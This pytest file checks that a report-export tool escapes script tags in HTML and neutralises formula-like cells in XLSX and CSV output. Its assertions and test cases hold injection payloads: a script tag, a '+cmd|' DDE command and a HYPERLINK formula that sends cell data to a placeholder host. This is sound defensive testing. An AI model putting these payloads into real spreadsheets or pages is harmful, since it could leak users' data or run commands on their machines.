"""Report text is untrusted: HTML escapes it, spreadsheet and CSV cells never run it.

The hostile fixture (and its copy under another unit, so its lines become reuse passages)
carries ``<script>``, ``=HYPERLINK(...)``, ``+cmd|...`` and ``@SUM(...)`` payloads.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from export_helpers import COPY_UNIT, HOSTILE_UNIT, findings_json, parse_html, run
from openpyxl import load_workbook

from reportaudit.export.safety import csv_cell, is_formula_like

PAYLOADS = ("=HYPERLINK(", "+cmd|", "@SUM(")


def _hostile_rev(store: Path) -> str:
    """The revision id of the hostile report (from a reuse finding naming it)."""
    for f in findings_json(store):
        for side in "ab":
            if f[side]["report"]["unit"] == HOSTILE_UNIT:
                return str(f[side]["revision"])
    raise AssertionError("the hostile report is in no finding")


def test_the_hostile_copy_puts_payloads_into_findings(store_path: Path) -> None:
    """Guard for the tests below: the payloads really are in finding passages."""
    texts = [
        f[s]["text"]
        for f in findings_json(store_path)
        for s in "ab"
        if f[s]["report"]["unit"] in (HOSTILE_UNIT, COPY_UNIT)
    ]
    assert any(t.startswith("=HYPERLINK(") for t in texts)
    assert any("<script>alert(1)</script>" in t for t in texts)


@pytest.mark.parametrize("scope", ["findings", "report"])
def test_html_shows_script_as_text(store_path: Path, tmp_path: Path, scope: str) -> None:
    """No <script> element anywhere; the payload reads as text where the report has it."""
    out = tmp_path / "p.html"
    args = ["findings"] if scope == "findings" else ["report", _hostile_rev(store_path)]
    run(store_path, "export", *args, "-f", "html", "-o", str(out))
    data = out.read_bytes()
    assert b"<script" not in data.lower()
    assert b"&lt;script&gt;alert(1)&lt;/script&gt;" in data
    doc = parse_html(out)
    assert not doc.xpath("//script")
    assert "<script>alert(1)</script>" in doc.text_content()
    assert not doc.xpath("//*[@onload or @onerror or @onclick]")
    assert "[bold]x[/bold" in doc.text_content()  # Rich markup is plain text here


def _all_cells(path: Path) -> list[object]:
    """Every cell of every sheet of a workbook (values as stored)."""
    wb = load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize("scope", ["findings", "report"])
def test_xlsx_cells_with_formula_text_stay_text(
    store_path: Path, tmp_path: Path, scope: str
) -> None:
    """Cells beginning like a formula are strings with the quote-prefix flag, their visible
    text unchanged; the workbook holds no formula at all."""
    out = tmp_path / "p.xlsx"
    args = ["findings"] if scope == "findings" else ["report", _hostile_rev(store_path)]
    run(store_path, "export", *args, "-f", "xlsx", "-o", str(out))
    cells = _all_cells(out)
    risky = [c for c in cells if isinstance(c.value, str) and is_formula_like(c.value)]  # type: ignore[attr-defined]
    values = {c.value for c in risky}  # type: ignore[attr-defined]
    assert any(v.startswith("=HYPERLINK(") for v in values)
    if scope == "report":  # the full text has the whole lines
        assert any(v.startswith("@SUM(") for v in values)
        assert any(v.startswith('=HYPERLINK("http://x.invalid/?q="&A1') for v in values)
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)  # type: ignore[attr-defined]
    assert not [c for c in cells if c.data_type == "f"]  # type: ignore[attr-defined]
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_csv_cells_with_formula_text_get_an_apostrophe(store_path: Path, tmp_path: Path) -> None:
    """No CSV cell starts with = + - @ tab or CR; the neutralised cells keep their text
    after the apostrophe."""
    out = tmp_path / "p.csv"
    run(store_path, "export", "findings", "-f", "csv", "-o", str(out))
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))[:-1]
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if is_formula_like(c)]
    neutral = [c[1:] for c in cells if c.startswith("'")]
    assert any(c.startswith("=HYPERLINK(") for c in neutral)
    assert any("<script>alert(1)</script>" in c for c in cells)  # CSV keeps text as is


@pytest.mark.parametrize(
    ("raw", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "␍=1"),  # a CR is shown, so it cannot hide a formula
        ("收入=支出", "收入=支出"),
        ("", ""),
    ],
)
def test_csv_cell_rule(raw: str, cell: str) -> None:
    """Only a formula-like start is neutralised; the rest of the text is untouched."""
    assert csv_cell(raw) == cell
